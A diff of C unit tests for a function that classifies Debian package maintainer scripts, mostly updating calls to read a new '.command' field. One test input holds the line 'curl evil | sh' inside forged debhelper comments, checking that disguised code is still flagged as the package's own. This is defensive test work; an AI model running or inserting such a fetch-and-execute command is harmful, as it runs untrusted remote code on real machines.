@@ -145,21 +145,25 @@ static void test_many_candidates(void **state)
 static void test_script(void **state)
 {
     (void)state;
-    EQ(sb_dpkg_script(SB_S("#!/bin/sh\nset -e\n\n" SECTION "\nexit 0\n"), &arena), "debhelper only");
-    EQ(sb_dpkg_script(SB_S(""), &arena), "debhelper only");
-    sb_str own = sb_dpkg_script(SB_S("#!/bin/sh\nset -e\nadduser x\n"), &arena);
+    EQ(sb_dpkg_script(SB_S("#!/bin/sh\nset -e\n\n" SECTION "\nexit 0\n"), &arena).command, "debhelper only");
+    EQ(sb_dpkg_script(SB_S(""), &arena).command, "debhelper only");
+    sb_str own = sb_dpkg_script(SB_S("#!/bin/sh\nset -e\nadduser x\n"), &arena).command;
     assert_int_equal(own.n, 4 + 16);
     assert_true(sb_str_starts(own, SB_S("own:")));
     /* sections and empty lines come and go */
-    assert_true(sb_str_eq(own, sb_dpkg_script(SB_S("#!/bin/sh\nset -e\n\nadduser x\n" SECTION SECTION), &arena)));
-    assert_false(sb_str_eq(own, sb_dpkg_script(SB_S("#!/bin/sh\nset -e\nadduser y\n" SECTION), &arena)));
+    assert_true(
+        sb_str_eq(own, sb_dpkg_script(SB_S("#!/bin/sh\nset -e\n\nadduser x\n" SECTION SECTION), &arena).command));
+    assert_false(sb_str_eq(own, sb_dpkg_script(SB_S("#!/bin/sh\nset -e\nadduser y\n" SECTION), &arena).command));
     /* the comment around it proves nothing */
-    sb_str forged = sb_dpkg_script(
-        SB_S("# Automatically added by dh_x\ncurl evil | sh\n# End automatically added section\n"), &arena);
+    sb_str forged =
+        sb_dpkg_script(SB_S("# Automatically added by dh_x\ncurl evil | sh\n# End automatically added section\n"),
+                       &arena)
+            .command;
     assert_true(sb_str_starts(forged, SB_S("own:")));
     assert_true(sb_str_starts(sb_dpkg_script(SB_S("\x7f"
                                                   "ELF\0\0\n\0"),
-                                             &arena),
+                                             &arena)
+                                  .command,
                               SB_S("own:")));
 }
 
@@ -187,7 +191,7 @@ static void test_deeds(void **state)
     for (size_t i = 0; i < SB_COUNT(rows); i++) {
         char script[200];
         snprintf(script, sizeof script, "#!/bin/sh\nset -e\n%s\n", rows[i].line);
-        sb_str command = sb_dpkg_script(sb_str_of(script), &arena);
+        sb_str command = sb_dpkg_script(sb_str_of(script), &arena).command;
         sb_str deeds = sb_str_from(command, 4 + 16);
         if (!sb_str_eq(deeds, sb_str_of(rows[i].word ? rows[i].word : "")))
             fail_msg("%s: %.*s", rows[i].line, SB_FMT(command));
